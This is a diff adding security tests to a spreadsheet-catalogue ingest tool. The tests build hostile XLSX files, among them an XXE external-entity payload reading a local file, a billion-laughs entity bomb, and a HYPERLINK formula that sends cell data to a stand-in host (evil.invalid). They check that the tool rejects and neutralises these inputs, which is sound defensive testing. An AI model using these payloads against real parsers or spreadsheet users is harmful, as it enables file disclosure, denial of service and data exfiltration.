@@ -15,6 +15,7 @@ import json
 import os
 import sqlite3
 import uuid
+import zipfile
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -208,3 +209,126 @@ def test_script_in_title_is_escaped_in_every_html(arena: Arena, good_batch: Batc
     assert_contract(arena, before, batch, out, rows)
     html = Path(out["receipt"][1]).read_text("utf-8")  # type: ignore[index]
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+
+
+# -- catalogues that attack the parser -------------------------------------------------------------
+
+
+def xlsx_bytes(rows: list[dict[str, str]], text: frozenset[str] = frozenset()) -> bytes:
+    """A workbook of ``rows``; a value starting with '=' is a formula unless it is in ``text``."""
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    ws = wb.active
+    assert ws is not None
+    columns = list(rows[0])
+    ws.append(columns)
+    for r in rows:
+        ws.append([r[c] for c in columns])
+    for row in ws.iter_rows(min_row=2):
+        for cell in row:
+            if cell.value in text:
+                cell.data_type = "s"  # typed as text: the spreadsheet shows '=1+1', never computes it
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue()
+
+
+def add_doctype(text: str, doctype: str) -> str:
+    head, sep, body = text.partition("?>")
+    return head + sep + doctype + body if sep else doctype + text
+
+
+def with_part(xlsx: bytes, part: str, edit: object) -> bytes:
+    """The workbook with one part rewritten by ``edit`` (a function of the part's text)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            data = src.read(info)
+            if info.filename == part:
+                data = edit(data.decode("utf-8")).encode("utf-8")  # type: ignore[operator]
+            dst.writestr(info.filename, data)
+    return out.getvalue()
+
+
+def xxe(canary: Path) -> object:
+    def edit(text: str) -> str:
+        text = text.replace("<sheetData>", '<sheetData><row r="99"><c r="A99" t="inlineStr"><is><t>&xxe;</t></is></c>'
+                            "</row>", 1)
+        return add_doctype(text, f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{canary}">]>')
+    return edit
+
+
+def laughs(text: str) -> str:
+    decl = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
+    text = text.replace("<sheetData>", '<sheetData><row r="99"><c r="A99" t="inlineStr"><is><t>&lol9;</t></is></c>'
+                        "</row>", 1)
+    return add_doctype(text, f"<!DOCTYPE worksheet [{decl}]>")
+
+
+@pytest.mark.parametrize("attack", ["xxe", "laughs", "xxe-workbook"])
+def test_xml_attacks_in_an_xlsx_catalogue_are_a_batch_problem_with_a_receipt(
+        arena: Arena, good_batch: BatchTruth, tmp_path: Path, attack: str) -> None:
+    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
+    rows = catalogue_rows(batch)
+    data = xlsx_bytes(rows)
+    canary = arena.outside / "canary.txt"
+    if attack == "xxe":
+        data = with_part(data, "xl/worksheets/sheet1.xml", xxe(canary))
+    elif attack == "laughs":
+        data = with_part(data, "xl/worksheets/sheet1.xml", laughs)
+    else:
+        def workbook(text: str) -> str:  # read by openpyxl with lxml, not expat
+            return add_doctype(text, f'<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file://{canary}">]>')
+        data = with_part(data, "xl/workbook.xml", workbook)
+    (batch / "catalogue.csv").unlink()
+    (batch / "catalogue.xlsx").write_bytes(data)
+    write_manifest(batch)
+    before = arena.snapshot((batch,))
+    out = ingest(batch)
+    assert_contract(arena, before, batch, out, rows)
+    assert out["batch"]["status"] == "failed"  # type: ignore[index]
+    problem = out["batch"]["problems"][0]  # type: ignore[index]
+    assert problem["check"] == "INTAKE-CATALOGUE" and "DOCTYPE" in problem["message_zh"]
+
+
+def test_a_huge_csv_is_refused_at_the_row_limit(arena: Arena, good_batch: BatchTruth, tmp_path: Path,
+                                                monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("GUIDANG_PROFILES__DEMO__LIMITS__MAX_ROWS", "50")
+    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
+    rows = catalogue_rows(batch)
+    rows += [{**rows[0], "序号": str(n), "档号": f"Z109-WS·2023-Y-BGS-{n:04d}"} for n in range(2, 52)]
+    rewrite_catalogue(batch, rows)
+    before = arena.snapshot((batch,))
+    out = ingest(batch)
+    assert_contract(arena, before, batch, out, rows)
+    assert out["batch"]["status"] == "failed"  # type: ignore[index]
+    problem = out["batch"]["problems"][0]  # type: ignore[index]
+    assert "50" in problem["message_zh"] and "limits.max_rows" in problem["message_en"]
+
+
+def test_formula_cells_are_data(arena: Arena, good_batch: BatchTruth, tmp_path: Path) -> None:
+    batch = copy_batch(good_batch, tmp_path / "drop" / "HOSTILE")
+    rows = catalogue_rows(batch)
+    good_code = rows[0]["档号"]
+    formula = '=HYPERLINK("http://evil.invalid/?"&A1,"点击")'
+    rows[0]["题名"] = formula  # a formula cell (openpyxl writes no cached value)
+    rows.append({**rows[0], "序号": "2", "档号": "=1+1", "题名": "@SUM(1)"})
+    data = xlsx_bytes(rows, text=frozenset({"=1+1"}))
+    (batch / "catalogue.csv").unlink()
+    (batch / "catalogue.xlsx").write_bytes(data)
+    write_manifest(batch)
+    before = arena.snapshot((batch,))
+    out = ingest(batch)
+    items = {i["id"]: i for i in out["items"]}  # type: ignore[attr-defined]
+    # the formula is never evaluated: a formula cell without a value is an empty 题名 (a verdict), and
+    # a value that looks like a formula is kept as the text it is
+    assert good_code not in items or items[good_code]["status"] == "rejected"
+    assert items["=1+1"]["status"] == "rejected" and items["=1+1"]["title"] == "@SUM(1)"
+    assert_contract(arena, before, batch, out, [r for r in rows if r["题名"] != formula])
+    db = sqlite3.connect(arena.home / "catalogue.db")
+    try:
+        titles = {t for (t,) in db.execute("select title from items")}
+    finally:
+        db.close()
+    assert "@SUM(1)" in titles and not any("evil.invalid" in (t or "") for t in titles)
